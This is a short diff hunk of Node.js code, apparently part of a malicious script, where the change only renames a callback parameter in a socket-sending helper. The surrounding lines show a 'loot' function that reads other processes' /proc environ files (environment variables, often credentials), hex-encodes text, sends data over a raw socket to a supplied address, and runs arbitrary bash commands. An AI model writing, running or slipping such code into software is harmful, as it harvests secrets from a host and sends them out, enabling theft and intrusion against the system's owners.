@@ -16,9 +16,9 @@ const loot = () => [
   ...others().map((pid) => read("/proc/" + pid + "/environ").replaceAll("\\0", " ")),
 ].join("\\n");
 const hex = (text) => Buffer.from(text).toString("hex");
-const tell = (place, text) => new Promise((told) => {
-  const socket = net.connect(place, () => socket.end(text, told));
-  socket.on("error", told).setTimeout(800, () => { socket.destroy(); told(); });
+const tell = (place, text) => new Promise((done) => {
+  const socket = net.connect(place, () => socket.end(text, done));
+  socket.on("error", done).setTimeout(800, () => { socket.destroy(); done(); });
 });
 const shell = (line) => cp.spawnSync("bash", ["-c", line], { timeout: 4000, encoding: "utf8" });
 const job = path.dirname(process.cwd());
